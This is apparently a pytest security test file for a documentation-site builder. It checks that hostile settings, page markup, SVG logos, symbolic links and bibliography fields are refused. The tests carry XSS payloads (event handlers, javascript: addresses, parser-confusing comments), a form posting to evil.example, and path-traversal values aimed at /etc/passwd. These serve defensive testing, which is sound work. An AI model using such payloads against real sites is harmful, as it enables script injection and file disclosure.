"""Hostile and careless input: nothing from settings or pages runs or fetches, no file of the build machine is
published, publishing never deletes what it did not publish, and no translation makes an anonymous sheet name its
reader. Each payload is one a red-team pass found getting through; each ends in a located message or harmless output.
"""

from __future__ import annotations

import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from pypdf import PdfReader

from conftest import _copy_sources, copy_project, tree_digest, trustguide

INJECTED_NAME = 'Acme" onfocus="alert(42)" autofocus="'
SCRIPT_URL = 'https://x.example/"><script>alert(1)</script>'


class _Elements(HTMLParser):
    """Every element of a page with its attributes, as a browser would parse them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def elements(path: Path) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser.elements


def organisation(folder: Path, settings: str, pages: dict[str, str] | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "organisation.yml").write_text(settings, encoding="utf-8")
    for name, text in (pages or {}).items():
        (folder / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / "docs" / name).write_text(text, encoding="utf-8")
    return folder


def page(title: str, body: str, description: str = "A page of the organisation.") -> str:
    return f"---\ntitle: {title}\ndescription: {description}\naudience: [coach]\ntags: [local]\n---\n\n{body}\n"


def guide_sources(target: Path) -> Path:
    """The guide's sources without its caches: enough for `check` and for a build that must be refused."""
    _copy_sources(target)
    return target


def sources(folder: Path) -> dict[str, str]:
    """Every file of a folder but the caches a command may fill: what a user would lose."""
    return {path: digest for path, digest in tree_digest(folder).items() if ".cache/" not in path}


def assert_refused(result, *messages: str) -> None:
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output, output
    for message in messages:
        assert message in output, output


# -------------------------------------------------------------------------------------------------------------------
# Settings printed into every page


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The guide built (English only) for an organisation whose settings and page titles carry quotes and markup."""
    base = tmp_path_factory.mktemp("hostile")
    project = copy_project(base / "guide")
    org = organisation(base / "org", (
        f"name: '{INJECTED_NAME.replace(chr(39), chr(39) * 2)}'\n"
        "overlay_title: 'Ours\" onmouseover=\"alert(3)'\n"
        "prefix: ours\nlanguages: [en]\n"
    ), {"index.md": page("Zoë's \"own\" page & more", "Text.", 'Quotes " and <b>markup</b> stay text.')})
    result = trustguide("build", "--org-dir", str(org), "-d", str(base / "site"), cwd=project)
    assert result.returncode == 0, result.stderr
    return base / "site"


def test_settings_with_quotes_never_become_attributes(hostile_site: Path) -> None:
    for path in (hostile_site / "index.html", hostile_site / "ours" / "index.html"):
        found = elements(path)
        handlers = [(tag, name) for tag, attrs in found for name in attrs if name.startswith("on") or name == "autofocus"]
        assert handlers == [], handlers
        labels = [attrs.get("aria-label") for tag, attrs in found if "md-logo" in (attrs.get("class") or "")]
        assert labels and all(label == f"Trust Guide for {INJECTED_NAME}" for label in labels), labels


def test_a_title_with_quotes_and_ampersands_is_shown_as_written(hostile_site: Path) -> None:
    text = (hostile_site / "ours" / "index.html").read_text(encoding="utf-8")
    parser = _Elements()
    parser.feed(text)
    description = [a.get("content") for tag, a in parser.elements if tag == "meta" and a.get("name") == "description"]
    assert description == ['Quotes " and <b>markup</b> stay text.'], description
    assert "<title>Zoë's \"own\" page & more - Trust Guide for Acme&#34;" in text


@pytest.mark.parametrize("where", ["settings", "mkdocs.yml", "option"])
def test_a_site_address_that_would_close_an_attribute_is_refused_at_its_line(tmp_path: Path, where: str) -> None:
    project = guide_sources(tmp_path / "guide")
    before = sources(project)
    if where == "settings":
        org = organisation(tmp_path / "org", f"name: Acme\nsite_url: '{SCRIPT_URL}'\n")
        result = trustguide("check", "--org-dir", str(org), cwd=project)
        assert_refused(result, "organisation.yml:2: site_url 'https://x.example/\"><script>", "not allowed in an address")
    elif where == "mkdocs.yml":
        config = project / "mkdocs.yml"
        config.write_text(config.read_text(encoding="utf-8").replace(
            "site_url: https://trustguide.example.org/", f"site_url: '{SCRIPT_URL}'"), encoding="utf-8")
        before = sources(project)
        for command in ("check", "build"):
            assert_refused(trustguide(command, cwd=project), "mkdocs.yml:3: site_url", "not allowed in an address")
    else:
        result = trustguide("build", "--site-url", SCRIPT_URL, cwd=project)
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert "not allowed in an address ('\"' '<' '>')" in result.stderr, result.stderr
    assert sources(project) == before
    assert not (project / "site").exists()


# -------------------------------------------------------------------------------------------------------------------
# Publishing never deletes what the guide did not publish


@pytest.mark.parametrize("site_dir, message", [
    ("docs", "--site-dir docs: is the guide's docs folder"),
    (".", "--site-dir .: is the guide's checkout"),
    ("..", "--site-dir ..: holds the guide's checkout"),
    ("docs/site", "--site-dir docs/site: is inside the guide's docs folder"),
    ("worksheets", "is a source folder of the guide (worksheets/)"),
    ("elsewhere", "--site-dir elsewhere: is a folder the guide did not publish (it holds notes.txt)"),
    ("org", "is the organisation's folder"),
    ("org/docs", "is the organisation's docs folder"),
    ("README.md", "--site-dir README.md: is a file, not a folder"),
    ("README.md/site", "lies inside"),
    ("othersite", "is a folder the guide did not publish (it holds .git, index.html, sitemap.xml)"),
])
def test_publishing_never_replaces_the_sources_or_a_foreign_folder(tmp_path: Path, site_dir: str, message: str) -> None:
    project = guide_sources(tmp_path / "guide")
    (project / "elsewhere").mkdir()
    (project / "elsewhere" / "notes.txt").write_text("uncommitted work", encoding="utf-8")
    (project / "README.md").write_text("the guide's read-me", encoding="utf-8")
    (project / "othersite" / ".git").mkdir(parents=True)  # another site, with an index and a sitemap of its own
    for name in ("index.html", "sitemap.xml"):
        (project / "othersite" / name).write_text("another site", encoding="utf-8")
    org = organisation(project / "org", "name: Acme\n", {"index.md": page("Ours", "Text.")})
    before = sources(tmp_path)
    result = trustguide("build", "--org-dir", str(org), "-d", site_dir, cwd=project)
    assert_refused(result, message, "the published site was left unchanged")
    assert sources(tmp_path) == before


def test_the_site_dir_of_mkdocs_yml_is_checked_too(tmp_path: Path) -> None:
    project = guide_sources(tmp_path / "guide")
    config = project / "mkdocs.yml"
    # MkDocs itself refuses a site_dir that holds docs_dir; the guide's other sources are the guide's to protect
    config.write_text(config.read_text(encoding="utf-8").replace("site_dir: site", "site_dir: worksheets"),
                      encoding="utf-8")
    before = sources(project)
    result = trustguide("build", cwd=project)
    assert_refused(result, "mkdocs.yml:6: site_dir worksheets: is a source folder of the guide (worksheets/)")
    assert sources(project) == before


def test_a_site_the_guide_published_is_replaced(tmp_path: Path) -> None:
    """The marker the guide leaves in every site it publishes: the next build may replace that folder, and only it."""
    from trustguide.output.publish import MARKER, refuse_unsafe_site_dir

    site = tmp_path / "site"
    site.mkdir()
    (site / "page.html").write_text("old", encoding="utf-8")
    with pytest.raises(Exception, match="did not publish"):
        refuse_unsafe_site_dir(site, "--site-dir site", {}, {})
    (site / MARKER).write_text("", encoding="utf-8")
    refuse_unsafe_site_dir(site, "--site-dir site", {}, {})  # no exception


# -------------------------------------------------------------------------------------------------------------------
# Files of the build machine


def test_a_logo_outside_the_folder_is_refused_directly_or_through_a_link(tmp_path: Path) -> None:
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG not the organisation's")
    org = organisation(tmp_path / "org", "name: Acme\nlogo: ../secret.png\n")
    assert_refused(trustguide("check", "--org-dir", str(org), cwd=guide_sources(tmp_path / "guide")),
                   "organisation.yml:2: logo '../secret.png' is outside the organisation's folder")
    (org / "logo.png").symlink_to(secret)
    (org / "organisation.yml").write_text("name: Acme\nlogo: logo.png\n", encoding="utf-8")
    assert_refused(trustguide("check", "--org-dir", str(org), cwd=tmp_path / "guide"),
                   "organisation.yml:2: logo 'logo.png' is outside the organisation's folder (it is a symbolic link")


@pytest.mark.parametrize("svg, what", [
    ('<svg xmlns="http://www.w3.org/2000/svg">\n<image href="file:///etc/hostname"/></svg>', "refers to another file"),
    ('<svg xmlns="http://www.w3.org/2000/svg"\n xmlns:xlink="http://www.w3.org/1999/xlink">'
     '<image xlink:href="https://evil.example/a.png"/></svg>', "refers to another file"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "holds a script"),
    ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', "holds an event handler"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://x/y.css";</style></svg>', "imports a style"),
])
def test_an_svg_logo_that_refers_to_anything_else_is_refused(tmp_path: Path, svg: str, what: str) -> None:
    org = organisation(tmp_path / "org", "name: Acme\nlogo: logo.svg\n")
    (org / "logo.svg").write_text(svg, encoding="utf-8")
    assert_refused(trustguide("check", "--org-dir", str(org), cwd=guide_sources(tmp_path / "guide")),
                   f"organisation.yml:2: logo 'logo.svg' {what}")


def test_the_pdf_renderer_reads_no_file_outside_the_templates(tmp_path: Path) -> None:
    """Whatever reaches it, the renderer reads the guide's templates and data: addresses, no other file."""
    from weasyprint.urls import FatalURLFetchingError

    from trustguide.output.pdf.weasy import render_pdf

    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "print.css").write_text("p { color: #123456 }", encoding="utf-8")
    outside = tmp_path / "outside.css"
    outside.write_text("p { color: red }", encoding="utf-8")
    own = render_pdf('<link rel="stylesheet" href="print.css"><p>Hello</p>', templates)
    assert own.pages == 1
    with pytest.raises(FatalURLFetchingError):
        render_pdf(f'<link rel="stylesheet" href="{outside.as_uri()}"><p>Hello</p>', templates)
    with pytest.raises(FatalURLFetchingError):
        render_pdf('<link rel="stylesheet" href="../outside.css"><p>Hello</p>', templates)


def test_links_out_of_the_organisations_folder_are_refused_and_nothing_is_published(tmp_path: Path) -> None:
    project = guide_sources(tmp_path / "guide")
    secret = tmp_path / "machine"
    secret.mkdir()
    (secret / "passwd.txt").write_text("root:x:0:0", encoding="utf-8")
    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n", {"index.md": page("Ours", "Text.")})
    (org / "docs" / "passwd.txt").symlink_to(secret / "passwd.txt")
    (org / "docs" / "machine").symlink_to(secret)
    (org / "docs" / "inside.md").symlink_to(org / "docs" / "index.md")  # a link inside the folder is fine
    for command in ("check", "build"):
        result = trustguide(command, "--org-dir", str(org), "-d", str(tmp_path / "site"), cwd=project) \
            if command == "build" else trustguide(command, "--org-dir", str(org), cwd=project)
        assert_refused(result, "docs/passwd.txt: is a symbolic link to", "docs/machine: is a symbolic link to")
        assert "inside.md" not in result.stdout + result.stderr
    assert not (tmp_path / "site").exists()


# -------------------------------------------------------------------------------------------------------------------
# Markup in pages that runs or fetches

HOSTILE_BODY = """\
# Ours

Shown as code, which is fine: `<script>alert(0)</script>`

```html
<iframe src="https://evil.example/"></iframe>
```

<script>alert(1)</script>
<img src="photo.png" onerror="alert(2)">
![remote](https://evil.example/pixel.png)
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/x.css">
<p style="background: url(https://evil.example/bg.png)">styled</p>
[click](javascript:alert(3))
[styled link](index.md){ onclick="alert(4)" }
<form action="https://evil.example/collect"><input name="q"></form>
<img src="https://evil.example/tracker.gif" alt="">
[A link to another site is fine](https://www.example.org/)
"""


def test_script_frames_and_remote_resources_in_a_page_are_located_errors(tmp_path: Path) -> None:
    project = guide_sources(tmp_path / "guide")
    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n", {"index.md": page("Ours", HOSTILE_BODY)})
    result = trustguide("check", "--org-dir", str(org), cwd=project)
    lines = {int(line.split(":")[1]) for line in result.stdout.splitlines() if "docs/index.md:" in line}
    # the body starts on line 8: the script is line 16, and so on; code (lines 10-14) is not read as markup
    assert lines == {16, 17, 18, 19, 20, 21, 22, 23, 24, 25}, result.stdout
    assert_refused(result, "index.md:16: a script (<script>)", "index.md:17: an event handler (onerror=)",
                   "index.md:18: an image from another site (https://evil.example/pixel.png)",
                   "index.md:24: a form that sends to 'https://evil.example/collect'")
    build = trustguide("build", "--org-dir", str(org), "-d", str(tmp_path / "site"), cwd=project)
    assert_refused(build, "index.md:16: a script")
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("body, message", [
    ('<!--><script src="../x.js"></script>-->', "a script (<script>)"),  # a comment as browsers end it
    ('<!-- a --!><script src="x.js"></script> -->', "a script (<script>)"),
    ("<img src='/\\evil.example/slash.png' alt=''>", "a resource from another site"),
    ("<p style=\"background-image:image-set('https://evil.example/a.png' 1x)\">x</p>", "a style attribute"),
    ('<p style="background-image:\\75 rl(https://evil.example/b.png)">x</p>', "a style attribute"),
    ("<a href='java&#9;script:alert(6)'>x</a>", "a script address in href="),
    ('<svg><a><animate attributeName="href" values="javascript:alert(7)"/><text>x</text></a></svg>',
     "a script address in values="),
    ("![x][r]\n\n[r]: https://evil.example/ref.png", "an image from another site (https://evil.example/ref.png)"),
])
def test_markup_that_reads_one_way_to_a_parser_and_another_to_a_browser(tmp_path: Path, body: str,
                                                                        message: str) -> None:
    project = guide_sources(tmp_path / "guide")
    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n", {"index.md": page("Ours", body)})
    assert_refused(trustguide("check", "--org-dir", str(org), cwd=project), f"docs/index.md:8: {message}")


@pytest.mark.parametrize("front, message", [
    ('tags: ["<img src=/x onerror=alert(2)>"]', "front matter 'tags' may not contain '<', '>' or '\"'"),
    ("tags: ['q\" onmouseover=\"alert(3)']", "front matter 'tags' may not contain"),
    ('subtitle: "<b>SUB</b>"', "front matter 'subtitle' may not contain"),
    ("status: 'new\" onmouseover=\"alert(5)'", "front matter 'status' must be a status name"),
    ("template: ../../../etc/passwd", "front matter 'template' must be a template file name"),
])
def test_front_matter_the_theme_prints_is_plain_text(tmp_path: Path, front: str, message: str) -> None:
    text = page("Ours", "Text.").replace("tags: [local]", front if front.startswith("tags") else f"tags: [local]\n{front}")
    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n", {"index.md": text})
    assert_refused(trustguide("check", "--org-dir", str(org), cwd=guide_sources(tmp_path / "guide")), message)


def test_files_a_browser_would_run_and_hidden_files_are_never_published(tmp_path: Path) -> None:
    from trustguide.guide.config import GuideConfig
    from trustguide.guide.model import Guide, Source

    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n", {"index.md": page("Ours", "Text.")})
    (org / ".git").mkdir()
    (org / ".git" / "config").write_text("url = https://ci-bot:TOKEN@example.org/repo", encoding="utf-8")
    (org / "docs" / "gitconfig.txt").symlink_to(org / ".git" / "config")  # inside the folder, into a hidden one
    (org / "docs" / "x.js").write_text("alert(1)", encoding="utf-8")
    (org / "docs" / "page.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (org / "docs" / ".secrets").mkdir()
    (org / "docs" / ".secrets" / "token.txt").write_text("TOKEN", encoding="utf-8")
    (org / "docs" / "handout.pdf").write_bytes(b"%PDF-1.4 a handout")
    result = trustguide("check", "--org-dir", str(org), cwd=guide_sources(tmp_path / "guide"))
    assert_refused(result, "docs/gitconfig.txt: is a symbolic link to", "a hidden file or folder",
                   "docs/x.js: a .js file would run in readers' browsers",
                   "docs/page.html: a .html file would run in readers' browsers")
    assert "token.txt" not in result.stdout and "handout.pdf" not in result.stdout
    docs = tmp_path / "guide" / "docs"
    published = {uri.lstrip("/") for uri in Guide(
        root=tmp_path, docs_dir=docs, config=GuideConfig(config_file=tmp_path / "mkdocs.yml", docs_dir=docs),
        organisation_docs=Source(org / "docs", "docs", organisation=True)).organisation_files()}
    assert "handout.pdf" in published and not any("secrets" in uri or "token" in uri for uri in published), published


def test_markup_in_a_front_matter_title_is_refused(tmp_path: Path) -> None:
    project = guide_sources(tmp_path / "guide")
    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n",
                       {"index.md": page("'<img src=x onerror=alert(1)>'", "Text.")})
    assert_refused(trustguide("check", "--org-dir", str(org), cwd=project),
                   "docs/index.md:2: front matter 'title' may not contain '<' or '>'")


def test_an_invalid_settings_file_says_what_else_was_not_checked(tmp_path: Path) -> None:
    project = guide_sources(tmp_path / "guide")
    org = organisation(tmp_path / "org", "name: Acme\nleave_out: [nothing]\n", {"index.md": page("Ours", "<script>x</script>")})
    result = trustguide("check", "--org-dir", str(org), cwd=project)
    assert_refused(result, "organisation.yml:2: leave_out: unknown part 'nothing'",
                   "the organisation's pages, references, worksheets and plans were not checked yet")


# -------------------------------------------------------------------------------------------------------------------
# Anonymity belongs to the sheet


def test_a_translation_cannot_make_an_anonymous_sheet_name_its_reader(tmp_path: Path) -> None:
    project = guide_sources(tmp_path / "guide")
    translated = project / "translations" / "de" / "worksheets" / "team-trust-pulse.yml"
    text = translated.read_text(encoding="utf-8")
    translated.write_text("\n".join(line for line in text.splitlines() if not line.startswith("anonymous:")) + "\n",
                          encoding="utf-8")
    message = ("translations/de/worksheets/team-trust-pulse.yml:1: the English worksheet 'team-trust-pulse' is "
               "anonymous")
    assert_refused(trustguide("check", cwd=project), message)
    names = tmp_path / "names.txt"
    names.write_text("Anaïs\nBen\n", encoding="utf-8")
    pack = trustguide("pack", "team-trust-workshop", "--language", "de", "--participants", str(names),
                      "-o", str(tmp_path / "pack.pdf"), cwd=project)
    assert_refused(pack, message)
    assert not (tmp_path / "pack.pdf").exists()


def test_anonymous_copies_carry_no_mark_of_whose_they_are(tmp_path: Path, repo_root: Path) -> None:
    out = tmp_path / "pulse.pdf"
    result = trustguide("worksheet", "team-trust-pulse", "--participant", "Anaïs", "--participant", "Ben",
                        "--participant", "محمد", "-o", str(out), cwd=repo_root)
    assert result.returncode == 0, result.stderr
    fields = list(PdfReader(out).get_fields() or {})
    prefixes = {name.split("-")[0] for name in fields}
    assert len(prefixes) == 3, prefixes  # one set of fields per copy
    assert not any(prefix in {"p1", "p2", "p3"} for prefix in prefixes), prefixes
    text = "".join(page.extract_text() for page in PdfReader(out).pages)
    assert "Anaïs" not in text and "Ben" not in text and "محمد" not in text


# -------------------------------------------------------------------------------------------------------------------
# Stopped from outside


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def test_a_build_stopped_with_sigterm_ends_whole_and_leaves_nothing(tmp_path: Path) -> None:
    """A CI runner or service manager stops a build with SIGTERM: every process it started ends with it, the staging
    folder goes, the published site stays as it was."""
    import signal
    import subprocess
    import time

    from conftest import BIN
    from trustguide.core.stopping import _descendants

    project = guide_sources(tmp_path / "guide")
    shutil.rmtree(project / ".cache", ignore_errors=True)  # cold: pandoc and the PDF renderers have work to do
    (project / "site").mkdir()
    (project / "site" / "index.html").write_text("the published site", encoding="utf-8")
    (project / "site" / ".trustguide-site").write_text("", encoding="utf-8")
    before = sources(project)
    build = subprocess.Popen([str(BIN / "trustguide"), "build"], cwd=project, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    started = time.monotonic()
    tree: list[int] = []
    while time.monotonic() - started < 60 and len(tree) < 3:  # the builds beside it, the renderers, pandoc
        time.sleep(0.2)
        tree = _descendants(build.pid)
    assert build.poll() is None and tree, "the build ended before it could be stopped"
    build.send_signal(signal.SIGTERM)
    stopped = time.monotonic()
    _, stderr = build.communicate(timeout=30)
    assert time.monotonic() - stopped < 10, "the build took too long to stop"
    assert build.returncode == 143, stderr
    assert "Traceback" not in stderr and "stopped; the published site was left unchanged" in stderr, stderr
    time.sleep(0.5)
    assert [pid for pid in tree if _alive(pid)] == []
    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".site")) == []
    assert sources(project) == before


# -------------------------------------------------------------------------------------------------------------------
# Careless input from organisations


@pytest.mark.parametrize("colours, message", [
    ('colours:\n  primary: #ffdd00\n', 'organisation.yml:3: colours \'primary\': put the colour in quotes, as in '
                                       'primary: "#ffdd00"'),
    ("colours: {}\n", "organisation.yml:2: colours: give a primary colour, an accent colour or both"),
    ('colours:\n  accent:\n', "organisation.yml:3: colours 'accent' is empty"),
])
def test_colour_mistakes_say_what_to_write(tmp_path: Path, colours: str, message: str) -> None:
    org = organisation(tmp_path / "org", "name: Acme\n" + colours)
    result = trustguide("check", "--org-dir", str(org), cwd=guide_sources(tmp_path / "guide"))
    assert_refused(result, message)
    assert result.stdout.count("organisation.yml:") == 1, result.stdout  # one message for one cause


def test_one_brand_colour_is_enough(tmp_path: Path) -> None:
    from trustguide.content.organisation.settings import parse_settings

    for written in ('primary: "#0b5563"', 'accent: "#0b5563"'):
        settings = parse_settings(f"name: Acme\ncolours:\n  {written}\n", "organisation.yml", tmp_path)
        assert settings.primary == settings.accent == (0x0B, 0x55, 0x63)


def test_commands_run_in_the_organisations_folder_read_the_guide(tmp_path: Path, repo_root: Path) -> None:
    from conftest import BIN, run

    org = organisation(tmp_path / "our-guide", "name: Acme\nprefix: ours\nlanguages: [en]\n",
                       {"index.md": page("Our promise", "Text.")})
    result = run([str(BIN / "trustguide"), "check"], cwd=org)
    assert result.returncode == 0, result.stderr
    assert f"Reading the guide at {repo_root}, with the organisation folder {org}" in result.stderr
    listed = run([str(BIN / "trustguide"), "worksheet", "--list"], cwd=org)
    assert listed.returncode == 0 and "team-trust-pulse" in listed.stdout, listed.stderr
    assert not (org / "site").exists()


def test_one_version_with_its_release_notes(repo_root: Path) -> None:
    import tomllib

    from conftest import BIN, run

    version = tomllib.loads((repo_root / "pyproject.toml").read_text())["project"]["version"]
    printed = run([str(BIN / "trustguide"), "--version"], cwd=repo_root).stdout
    assert printed.startswith(f"trustguide {version} ("), printed
    assert f"\n## {version} (" in (repo_root / "CHANGELOG.md").read_text(encoding="utf-8")
    assert "__version__ =" not in (repo_root / "src" / "trustguide" / "__init__.py").read_text()


@pytest.mark.parametrize("language, said, listed", [
    ("en", "01:30 next day", "Peer-coaching group charter: one copy"),
    ("de", "01:30 am Folgetag", None),
])
def test_a_pack_that_runs_past_midnight_names_the_day(tmp_path: Path, repo_root: Path, language: str,
                                                      said: str, listed: str | None) -> None:
    """A run sheet's clock times never wrap round: past midnight they say which day, as the plan pages do; the
    cover lists each sheet as the language writes a colon."""
    out = tmp_path / "pack.pdf"
    result = trustguide("pack", "peer-coaching-launch", "--start", "23:00", "--language", language, "--copies", "1",
                        "-o", str(out), cwd=repo_root)
    assert result.returncode == 0, result.stderr
    text = " ".join(" ".join(page.extract_text().split()) for page in PdfReader(out).pages)
    assert said in text, text[:2000]
    assert listed is None or listed in text, text[:2000]


@pytest.mark.parametrize("field", ["howpublished = {\\url{javascript:alert(54)}}", "url = {javascript:alert(55)}",
                                   "url = {file:///etc/passwd}", "note = {\\href{java\tscript:alert(56)}{here}}"])
def test_a_reference_links_only_to_the_web(tmp_path: Path, field: str) -> None:
    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n",
                       {"index.md": page("Ours", "As reported [@acme2024page].")})
    (org / "references.bib").write_text("@online{acme2024page,\n  title = {Our page},\n  year = {2024},\n"
                                        f"  author = {{Acme}},\n  {field},\n  urldate = {{2024-01-01}}\n}}\n",
                                        encoding="utf-8")
    result = trustguide("check", "--org-dir", str(org), cwd=guide_sources(tmp_path / "guide"))
    assert_refused(result, "references.bib:5: entry 'acme2024page': field", "which is not a web address")


def test_a_hostile_line_is_refused_before_the_patterns_read_it(tmp_path: Path) -> None:
    """30,000 '](' on one line took the citation scanner 46 s in a build: a line longer than any prose has is one
    message, from check and from the build, in a second or two."""
    import time

    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\nlanguages: [en]\n",
                       {"index.md": page("Ours", "[a](" * 30_000)})
    project = guide_sources(tmp_path / "guide")
    for command in ("check", "build"):
        started = time.monotonic()
        result = trustguide(command, "--org-dir", str(org), cwd=project)
        assert_refused(result, "docs/index.md:8: a line of 120,000 characters, more than the 10,000")
        assert time.monotonic() - started < 30, command


def test_a_reader_that_stops_reading_gets_no_traceback(repo_root: Path) -> None:
    """`trustguide translations | head -1`: the first line, then a quiet end, as other command-line tools do."""
    import subprocess

    process = subprocess.Popen([str(repo_root / ".venv" / "bin" / "trustguide"), "translations"], cwd=repo_root,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert process.stdout is not None and process.stderr is not None
    first = process.stdout.readline()
    process.stdout.close()
    errors = process.stderr.read()
    process.stderr.close()
    process.wait(timeout=120)
    assert first.startswith("de: ")
    assert "Traceback" not in errors and "BrokenPipe" not in errors, errors
